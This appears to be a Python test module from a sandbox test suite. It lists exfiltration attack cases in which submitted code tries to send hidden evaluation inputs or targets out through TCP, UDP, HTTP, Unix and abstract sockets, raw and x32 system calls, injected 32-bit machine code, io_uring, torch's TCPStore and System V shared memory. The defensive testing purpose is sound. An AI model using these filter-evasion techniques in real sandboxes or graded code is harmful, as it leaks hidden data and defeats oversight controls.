"""Attacks that speak to somebody outside: every kind of socket and the ways around sockets."""

from __future__ import annotations

from functools import partial

from tests.attacks.writing import EX7, attack

exfiltration = partial(attack, "exfiltration")

ATTACKS = (
    exfiltration(
        "tcp_connection",
        "Connects to a server and sends the hidden inputs.",
        "import socket",
        call="""
        try:
            with socket.create_connection(("127.0.0.1", int("{port}")), timeout=2) as connection:
                connection.sendall(MARKER.encode() + repr(y_pred).encode())
        except OSError:
            pass
        else:
            breach("sent by TCP")
        """,
    ),
    exfiltration(
        "tcp_connection_in_training",
        "Trains as it should and sends its hidden targets on the way.",
        "import socket",
        call="""
        try:
            connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            connection.settimeout(2)
            connection.connect(("127.0.0.1", int("{port}")))
            connection.send(MARKER.encode())
        except OSError:
            pass
        else:
            breach("sent by TCP")
        """,
        exercise=EX7,
    ),
    exfiltration(
        "tcp_server",
        "Listens for somebody who comes to fetch the hidden inputs.",
        """
        import socket

        try:
            server = socket.create_server(("127.0.0.1", 0))
        except OSError:
            pass
        else:
            breach("listens on TCP")
        """,
    ),
    exfiltration(
        "udp_packet",
        "Sends the hidden inputs in a UDP packet.",
        "import socket",
        call="""
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.sendto(MARKER.encode(), ("127.0.0.1", int("{port}")))
        except OSError:
            pass
        else:
            breach("sent by UDP")
        """,
    ),
    exfiltration(
        "web_request",
        "Sends the hidden inputs in the address of a web request.",
        """
        import urllib.request

        try:
            urllib.request.urlopen("http://127.0.0.1:{port}/" + MARKER, timeout=2)
        except OSError:
            pass
        """,
    ),
    exfiltration(
        "unix_socket",
        "Connects to a Unix socket by its path, as a container's control socket has one.",
        """
        import socket

        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                with socket.socket(socket.AF_UNIX, kind) as connection:
                    connection.settimeout(2)
                    connection.connect("{unix_path}")
                    connection.send(MARKER.encode())
            except OSError:
                continue
            breach("sent to a Unix socket")
        """,
    ),
    exfiltration(
        "abstract_socket",
        "Connects to a Unix socket that has a name and no file.",
        """
        import socket

        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                with socket.socket(socket.AF_UNIX, kind) as connection:
                    connection.settimeout(2)
                    connection.connect("\\0{unix_path}")
                    connection.send(MARKER.encode())
            except OSError:
                continue
            breach("sent to an abstract socket")
        """,
    ),
    exfiltration(
        "sockets_of_every_family",
        "Makes sockets of families that filters forget: netlink, packet, vsock, crypto, raw.",
        """
        import socket

        for family in (2, 10, 1, 16, 17, 38, 40, 44):
            for kind in (1, 2, 3, 5):
                try:
                    made = socket.socket(family, kind, 0)
                except OSError:
                    continue
                breach("made a socket of family " + str(family))
        """,
    ),
    exfiltration(
        "sockets_by_system_call",
        "Makes and uses sockets by the kernel's own numbers, past Python.",
        """
        import struct

        descriptor = kernel("socket", 2, 2, 0)
        if descriptor >= 0:
            address = struct.pack("=H", 2) + struct.pack(">H", int("{port}")) + b"\\x7f\\0\\0\\1"
            kernel("sendto", descriptor, MARKER.encode(), len(MARKER), 0, address + bytes(8), 16)
            breach("made a socket")
        """,
    ),
    exfiltration(
        "sockets_by_the_second_set_of_numbers",
        "Makes a socket by the x32 numbers of an x86-64 kernel, which a filter may not know.",
        """
        import ctypes
        import os

        LIBC = ctypes.CDLL(None, use_errno=True)
        if os.uname().machine == "x86_64":
            for number in (0x40000000 + 41, 0x40000000 + 57, 0x40000000 + 2):
                result = LIBC.syscall(ctypes.c_long(number), 1, 1, 0)
                if result == 0 and number & 0xFF == 57:
                    os._exit(0)
                if result >= 0:
                    breach("made the x32 call " + str(number - 0x40000000))
        """,
    ),
    exfiltration(
        "sockets_by_32_bit_calls",
        "Makes a socket by a 32-bit system call from machine code of its own.",
        """
        import ctypes
        import mmap
        import os

        # push rbx; mov eax, 359 (socket); mov ebx, 1; mov ecx, 1; xor edx, edx; int 0x80;
        # pop rbx; ret
        CODE = bytes.fromhex("53" "b867010000" "bb01000000" "b901000000" "31d2" "cd80" "5b" "c3")


        def made():
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(CODE)
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


        if os.uname().machine == "x86_64" and made() >= 0:
            breach("made a 32-bit socket")
        """,
        # A kernel without 32-bit calls ends the process just as a filter does.
        outcomes=("passed", "raised"),
    ),
    exfiltration(
        "io_uring",
        "Sets up io_uring, which makes system calls that no filter sees.",
        """
        import ctypes

        settings = ctypes.create_string_buffer(120)
        if kernel("io_uring_setup", 8, settings) >= 0:
            breach("set io_uring up")
        """,
    ),
    exfiltration(
        "name_lookup",
        "Asks for the address of a name, which carries the hidden inputs to whoever answers.",
        """
        import socket

        # No name server is asked for this one, but the resolver's files are.
        socket.setdefaulttimeout(2)
        try:
            found = socket.getaddrinfo("localhost", int("{port}"), type=socket.SOCK_STREAM)
            connection = socket.socket(*found[0][:3])
        except OSError:
            pass
        else:
            breach("made a socket")
        """,
    ),
    exfiltration(
        "distributed_torch",
        "Opens a server through torch's own distributed training and remote calls.",
        """
        try:
            import datetime

            store = torch.distributed.TCPStore(
                "127.0.0.1", int("{port}"), 2, False, datetime.timedelta(seconds=2)
            )
        except Exception:
            pass
        else:
            breach("connected through torch")
        """,
        outcomes=("passed", "raised"),
    ),
    exfiltration(
        "shared_memory_of_the_system",
        "Leaves the hidden inputs in System V shared memory, queues and semaphores.",
        """
        for make, take_back in (("shmget", "shmctl"), ("msgget", "msgctl"), ("semget", "semctl")):
            arguments = (0, 0o1600) if make == "msgget" else (0, 1, 0o1600)
            made = kernel(make, *arguments)
            if made >= 0:
                kernel(take_back, made, 0, 0, 0)
                breach("made one by " + make)
        name = MARKER.encode()
        if kernel("mq_open", name, 0o102, 0o600, None) >= 0:
            kernel("mq_unlink", name)
            breach("made a message queue")
        """,
    ),
)
